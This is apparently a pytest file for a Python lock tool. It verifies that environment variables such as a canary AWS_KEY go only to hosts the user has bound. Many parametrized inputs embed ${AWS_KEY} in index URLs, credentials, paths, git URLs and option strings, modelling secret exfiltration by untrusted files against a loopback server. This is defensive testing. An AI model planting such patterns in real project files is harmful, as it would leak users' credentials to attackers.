"""A variable of the environment is sent only to hosts that the user has bound it to: canaries at a loopback host."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.cli.verb_runs import run_verb
from tests.command import Project
from tests.servers import wheel

CANARY = "canaryZq7"


@pytest.fixture
def stranger(project: Project, tmp_path: Path) -> Project:
    """A folder whose files somebody else has written; `AWS_KEY` and others are variables of the user."""
    setenv = project.monkeypatch.setenv
    setenv("AWS_KEY", CANARY)
    setenv("SLASHED", f"/{CANARY}/")
    setenv("LOGIN_URL", f"https://me:{CANARY}@")
    setenv("HOST_URL", f"http://{CANARY}")
    setenv("PINFOLD_INDEX_CORP_PASSWORD", CANARY)
    setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    project.server.add("a", wheel("a", "1.0"))
    return project


def find_canaries(project: Project) -> list[str]:
    """The requests that hold a canary, in any header or in the target; Basic logins decoded."""
    return [
        request.target
        for request in project.server.log
        if CANARY in f"{request.target} {request.headers} {request.login}"
    ]


def spell(project: Project, text: str) -> str:
    """The text with the authority of the server for `HOST`."""
    return text.replace("HOST/", f"{project.server.base_url.partition('://')[2]}/")


LINES = [
    "--index-url http://${AWS_KEY}@HOST/simple/\na",
    "--index-url http://me:${AWS_KEY}@HOST/simple/\na",
    "--index-url http://x${AWS_KEY}@HOST/simple/\na",
    "--index-url http://HOST/${AWS_KEY}/simple/\na",
    "--index-url http://HOST/simple/?x=${AWS_KEY}\na",
    "--index-url http://HOST/simple/?token=${AWS_KEY}\na",
    "--index-url http://${AWS_KEY}.HOST/simple/\na",
    "--index-url http://localhost:${AWS_KEY}/simple/\na",
    "--index-url=${LOGIN_URL}HOST/simple/\na",
    "--index-url ${HOST_URL}@HOST/simple/\na",
    "--index-url http:/${SLASHED}@HOST/simple/\na",
    "--index-url http://HOST/simple/\n--extra-index-url http://${AWS_KEY}@HOST/links/\na",
    "--index-url http://HOST/simple/\n--find-links http://HOST/links/${AWS_KEY}/\na",
    "--index-url http://HOST/simple/\na @ http://HOST/files/${AWS_KEY}/a-1.0-py3-none-any.whl",
    "--index-url http://HOST/simple/\na @ http://HOST/files/a-1.0-py3-none-any.whl?x=${AWS_KEY}",
    "--index-url http://HOST/simple/\na @ git+http://${AWS_KEY}@HOST/a.git",
    "--index-url http://HOST/simple/\na @ git+http://HOST/${AWS_KEY}/a.git",
    "--index-url http://HOST/simple/\ngit+${LOGIN_URL}HOST/a.git#egg=a",
    "--index-url http://HOST/simple/\n${AWS_KEY}==1.0",
    "--index-url http://HOST/simple/\na-${AWS_KEY}==1.0",
    "--index-url http://HOST/simple/\na @ http://HOST/files/a-1.0.tar.gz --config-settings=x=${AWS_KEY}",
    "--index-url http://HOST/simple/\na @ http://HOST/files/a-1.0.tar.gz --conf x=${AWS_KEY}",
    "--index-url http://HOST/simple/\na @ http://HOST/files/a-1.0.tar.gz -C 'x= ${AWS_KEY}'",
    "--index-url http://HOST/simple/\na @ http://HOST/files/a-1.0.tar.gz -C x=y '--config-set'tings=x=${AWS_KEY}",
    "--index-url http://HOST/simple/\na @ http://HOST/files/a-1.0.tar.gz -C x=y \\-C x=${AWS_KEY}",
]


@pytest.mark.parametrize("lines", LINES)
@pytest.mark.parametrize("nested", [False, True], ids=["list", "included"])
def test_a_list_of_somebody_else_sends_no_variable(stranger: Project, lines: str, nested: bool) -> None:
    stranger.write("inner.txt" if nested else "requirements.txt", spell(stranger, lines) + "\n")
    if nested:
        stranger.write("requirements.txt", "-r inner.txt\n")

    run = stranger.lock("requirements.txt")

    assert run.code == 2, run.err
    assert stranger.server.log == []
    assert CANARY not in run.out + run.err
    assert "Traceback" not in run.err


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("pyproject.toml", '[tool.pinfold]\nrequirements = ["a"]\nindex-url = "http://${AWS_KEY}@HOST/simple/"\n'),
        ("pyproject.toml", '[tool.pinfold]\nrequirements = ["a"]\nextra-index-url = ["http://HOST/${AWS_KEY}/"]\n'),
        ("pyproject.toml", '[tool.pinfold]\nrequirements = ["a"]\nfind-links = ["http://${AWS_KEY}.HOST/"]\n'),
        ("pyproject.toml", '[tool.pinfold]\nrequirements = ["a @ http://HOST/${AWS_KEY}/a-1.0.tar.gz"]\n'),
        (
            "pyproject.toml",
            '[tool.pinfold]\nrequirements = ["a"]\nindex-url = "https://v.example/simple/"\n'
            '[tool.pinfold.mirrors]\n"https://v.example/" = "http://${AWS_KEY}@HOST/"\n',
        ),
        ("pyproject.toml", '[project]\nname = "x"\ndependencies = ["a @ http://${AWS_KEY}@HOST/a-1.0.tar.gz"]\n'),
    ],
)
def test_settings_of_somebody_else_send_no_variable(stranger: Project, name: str, text: str) -> None:
    stranger.write(name, spell(stranger, text))

    run = stranger.lock(name)

    assert (run.code, find_canaries(stranger), stranger.server.log) == (2, [], []), run.err
    assert CANARY not in run.out + run.err


@pytest.mark.parametrize(
    "item",
    [
        "f\"a @ http://HOST/files/{os.environ['AWS_KEY']}/a-1.0-py3-none-any.whl\"",
        '"a @ http://" + os.environ[\'AWS_KEY\'] + "@HOST/a-1.0-py3-none-any.whl"',
        '"a @ " + os.environ[\'LOGIN_URL\'] + "HOST/a-1.0-py3-none-any.whl"',
        "f\"git+http://{os.environ['AWS_KEY']}@HOST/a.git\"",
        'os.path.expandvars("a @ http://HOST/${AWS_KEY}/a-1.0-py3-none-any.whl")',
    ],
)
def test_an_app_of_somebody_else_sends_no_variable(stranger: Project, item: str) -> None:
    text = "import os\nimport fal\n\n\nclass Demo(fal.App):\n    requirements = [ITEM]\n".replace("ITEM", item)
    stranger.write("app.py", spell(stranger, text))

    run = stranger.lock("app.py")

    assert (run.code, stranger.server.log) == (2, []), run.err
    assert CANARY not in run.out + run.err


APP = "import os\nimport fal\n\n\nclass Demo(fal.App):\n    requirements = ['-i', 'INDEX', ITEM]\n"
CHANGED = [
    "os.environ['AWS_KEY'] + '==1.0'",
    "'a @ http://HOST/files/' + os.environ['AWS_KEY'].strip() + '/a-1.0-py3-none-any.whl'",
    "f\"a @ http://HOST/files/{os.environ['AWS_KEY'][1:]}/a-1.0-py3-none-any.whl\"",
    "'a @ http://HOST/files/' + ''.join(c for c in os.environ['AWS_KEY']) + '/a-1.0-py3-none-any.whl'",
    "'a' if os.environ['AWS_KEY'] > 'c' else 'b'",
]


@pytest.mark.parametrize("item", CHANGED)
def test_an_app_sees_no_variable_that_only_its_own_settings_name(stranger: Project, item: str) -> None:
    """With its value, an app could write it into any URL in a form of its own."""
    stranger.write("app.py", spell(stranger, APP.replace("ITEM", item)))
    stranger.write("pyproject.toml", '[tool.pinfold]\nenvironment = ["AWS_KEY"]\n')

    run = stranger.lock("app.py")

    assert (run.code, stranger.server.log) == (2, []), run.err
    assert "[tool.pinfold] environment: `AWS_KEY` may not be given to `app.py`" in run.err
    assert CANARY not in run.out + run.err


def test_an_app_sees_a_variable_that_is_allowed(stranger: Project) -> None:
    stranger.monkeypatch.setenv("A_VERSION", "1.0")
    stranger.write("app.py", APP.replace("ITEM", "'a==' + os.environ['A_VERSION']"))
    stranger.write("pyproject.toml", '[tool.pinfold]\nenvironment = ["A_VERSION"]\n')

    assert stranger.lock("app.py").code == 2
    assert stranger.lock("app.py", "--allow-variable", "A_VERSION=apps").code == 0
    assert stranger.lock("allow", "app.py").out.startswith("app.py: `A_VERSION` may be sent to `apps` (")
    assert stranger.lock("app.py").code == 0


def test_the_login_of_a_family_goes_to_no_host_of_the_project(stranger: Project) -> None:
    """`PINFOLD_INDEX_CORP_PASSWORD` belongs to the host of `PINFOLD_INDEX_CORP_URL` alone."""
    family = f'[[tool.pinfold.families]]\nname = "corp"\nurls = ["{stranger.server.base_url}/"]\nmembers = ["a"]\n'
    stranger.write("pyproject.toml", family)
    stranger.write("requirements.txt", "--index-url INDEX\na\n")

    run = stranger.lock("requirements.txt")

    assert "authorization" not in {name for request in stranger.server.log for name in request.headers}
    assert CANARY not in run.out + run.err


def test_the_error_names_variable_host_and_the_line_to_paste(stranger: Project) -> None:
    stranger.write("requirements.txt", spell(stranger, LINES[0]) + "\n")
    host = stranger.server.base_url.partition("://")[2]

    run = stranger.lock("requirements.txt")

    assert run.err == (
        "error: requirements.txt:1: `http://${AWS_KEY}@HOST/simple/` is needed,"
        " and `AWS_KEY` may not be sent to `HOST`\n"
        "  because the value of a variable goes only to hosts that you have bound it to\n"
        "  try: `--allow-variable AWS_KEY=HOST`, or once for this file: `lock allow requirements.txt`\n"
    ).replace("HOST", host).replace(f"http://${{AWS_KEY}}@{host}", f"http://${{AWS_KEY}}@{host}")
    assert stranger.lock("requirements.txt", "--allow-variable", f"AWS_KEY={host}").code == 0
    assert {request.headers.get("authorization") for request in stranger.server.log} != {None}


def test_a_file_is_allowed_once_and_again_after_a_change_of_its_bindings(stranger: Project) -> None:
    stranger.write("requirements.txt", spell(stranger, LINES[0]) + "\n")
    host = stranger.server.base_url.partition("://")[2]

    allowed = stranger.lock("allow", "requirements.txt")

    assert allowed.code == 0, allowed.err
    assert allowed.out.startswith(f"requirements.txt: `AWS_KEY` may be sent to `{host}` (")
    assert stranger.server.log == []
    assert stranger.lock("requirements.txt").code == 0
    # Another list of the same folder is another file.
    stranger.write("other.txt", spell(stranger, LINES[0]) + "\n")
    assert stranger.lock("other.txt").code == 2
    # Another host, and another variable.
    stranger.write("requirements.txt", "--index-url http://${AWS_KEY}@localhost:9/simple/\na\n")
    assert stranger.lock("requirements.txt").code == 2
    stranger.write("requirements.txt", spell(stranger, "--index-url http://${AWS_KEY}:${SLASHED}@HOST/simple/\na\n"))
    assert stranger.lock("requirements.txt").code == 2


def test_a_variable_is_allowed_once_for_all_lists(stranger: Project) -> None:
    host = stranger.server.base_url.partition("://")[2]
    stranger.write("requirements.txt", spell(stranger, LINES[0]) + "\n")

    assert stranger.lock("allow", f"AWS_KEY={host}").code == 0
    assert stranger.lock("requirements.txt").code == 0
    assert stranger.lock("allow", "AWS_KEY=*").code == 2


def test_the_record_has_no_value_and_is_of_the_user_alone(stranger: Project, tmp_path: Path) -> None:
    stranger.write("requirements.txt", spell(stranger, LINES[0]) + "\n")
    stranger.lock("allow", "requirements.txt")
    stranger.lock("allow", "requirements.txt")

    (record,) = (path for path in (tmp_path / "state").rglob("*") if path.is_file())
    (line,) = record.read_text(encoding="utf-8").splitlines()
    assert json.loads(line)[0] == "AWS_KEY"
    assert CANARY not in line
    assert record.stat().st_mode & 0o077 == 0


def test_a_url_of_the_command_line_binds_its_variables(stranger: Project) -> None:
    stranger.write("requirements.txt", "a\n")

    run = stranger.lock("requirements.txt", "--index-url", spell(stranger, "http://${AWS_KEY}@HOST/simple/"))

    assert run.code == 0, run.err
    assert CANARY not in run.out + run.err


def test_a_credentials_file_binds_its_variables(stranger: Project) -> None:
    path = stranger.write(
        "mine.toml",
        f'[[credentials]]\nurl = "{stranger.server.base_url}/t/"\nusername = "me"\npassword-variable = "AWS_KEY"\n',
    )
    path.chmod(0o600)
    stranger.write("requirements.txt", spell(stranger, "--index-url http://x:${AWS_KEY}@HOST/simple/\na\n"))

    assert stranger.lock("requirements.txt").code == 2
    assert stranger.lock("requirements.txt", "--credentials", "mine.toml").code == 0


def test_a_variable_with_the_whole_beginning_of_a_url_needs_no_binding(stranger: Project) -> None:
    stranger.monkeypatch.setenv("URL_BASE", stranger.server.base_url)
    stranger.write("requirements.txt", "--index-url ${URL_BASE}/simple/\na\n")

    assert stranger.lock("requirements.txt").code == 0
    stranger.write("requirements.txt", "--index-url ${URL_BASE}/${AWS_KEY}/simple/\na\n")
    stranger.server.log.clear()
    assert (stranger.lock("requirements.txt").code, stranger.server.log) == (2, [])


def test_a_host_in_a_variable_is_bound_by_its_name_or_as_written(stranger: Project) -> None:
    host = stranger.server.base_url.partition("://")[2]
    stranger.monkeypatch.setenv("OWN_HOST", host)
    stranger.write("requirements.txt", "--index-url http://${OWN_HOST}/simple/\na\n")

    assert stranger.lock("requirements.txt").code == 2
    for binding in (f"OWN_HOST={host}", "OWN_HOST=${OWN_HOST}"):
        assert stranger.lock("requirements.txt", "--allow-variable", binding).code == 0


def test_a_value_that_ends_the_host_is_sent_nowhere(stranger: Project) -> None:
    stranger.write("requirements.txt", spell(stranger, "--index-url http://x${SLASHED}y@HOST/simple/\na\n"))
    host = stranger.server.base_url.partition("://")[2]

    run = stranger.lock("requirements.txt", "--allow-variable", f"SLASHED={host}")

    assert (run.code, stranger.server.log) == (2, [])
    assert "holds a `/`, `?` or `#` in its credentials" in run.err
    assert CANARY not in run.err


@pytest.mark.parametrize("verb", [("fetch", "--to", "wheels"), ("verify",), ("hydrate", "-o", "pylock.build.toml")])
def test_a_list_that_is_named_for_a_lock_is_no_confirmation(stranger: Project, verb: tuple[str, ...]) -> None:
    stranger.write("requirements.txt", "--index-url INDEX\na\n")
    assert stranger.lock("requirements.txt").code == 0
    stranger.write("requirements.txt", spell(stranger, LINES[0]) + "\n")
    stranger.server.log.clear()

    run = run_verb(stranger, *verb, "--list", "requirements.txt")

    assert (run.code, stranger.server.log) == (2, [])
    assert "may not be sent to" in run.err
    assert CANARY not in run.err


def test_an_export_has_a_variable_where_the_list_of_the_builder_names_it(stranger: Project) -> None:
    host = stranger.server.base_url.partition("://")[2]
    file = f"http://${{AWS_KEY}}@{host}/files/a-1.0-py3-none-any.whl"
    stranger.write("requirements.txt", f"--no-index\na @ {file}\n")
    assert stranger.lock("requirements.txt", "--allow-variable", f"AWS_KEY={host}").code == 0

    forged = run_verb(stranger, "export", "--format", "list")
    assert "AWS_KEY" not in forged.out
    assert f"`AWS_KEY` is left out for `{host}`" in forged.err.replace("index.example", host)
    for words in (("--list", "requirements.txt"), ("--allow-variable", f"AWS_KEY={host}")):
        assert "${AWS_KEY}@" in run_verb(stranger, "export", "--format", "list", *words).out


FORGED = [
    ("/files/a-1.0", "/files/${AWS_KEY}/a-1.0"),
    ("/files/a-1.0", "/${AWS_KEY}/files/a-1.0"),
    ('url = "http://', 'url = "http://${AWS_KEY}@'),
    ('index = "http://', 'index = "http://${AWS_KEY}@'),
    ("/simple/", "/${AWS_KEY}/simple/"),
    ('"a",', '"a @ http://HOST/${AWS_KEY}/a-1.0-py3-none-any.whl",'),
    ('"a",', '"a @ git+http://${AWS_KEY}@HOST/a.git",'),
    ('"--index-url",', '"--extra-index-url",\n        "http://HOST/${AWS_KEY}/",\n        "--index-url",'),
]
VERBS = [
    ("fetch", "--to", "wheels"),
    ("verify",),
    ("sizes",),
    ("outdated",),
    ("hydrate", "-o", "pylock.build.toml"),
    ("export", "--format", "requirements"),
    ("export", "--format", "list"),
]


@pytest.mark.parametrize(("old", "new"), FORGED, ids=[new for _, new in FORGED])
@pytest.mark.parametrize("verb", VERBS, ids=" ".join)
def test_a_lock_of_somebody_else_sends_no_variable(
    stranger: Project, verb: tuple[str, ...], old: str, new: str
) -> None:
    stranger.write("requirements.txt", "--index-url INDEX\na\n")
    assert stranger.lock("requirements.txt").code == 0
    path = stranger.folder / "pylock.toml"
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, spell(stranger, new)), encoding="utf-8")
    stranger.server.log.clear()

    hosts = () if verb[0] in ("hydrate", "export") else ("--allow-host", "127.0.0.1")
    run = run_verb(stranger, *verb, *hosts)

    assert find_canaries(stranger) == []
    assert CANARY not in run.out + run.err
    written = [one for one in stranger.folder.rglob("*") if one.is_file() and CANARY.encode() in one.read_bytes()]
    assert written == []
    # What an installer would replace by the value.
    assert verb[0] != "export" or "${AWS_KEY}" not in "".join(
        line for line in run.out.splitlines() if not line.startswith("#")
    )
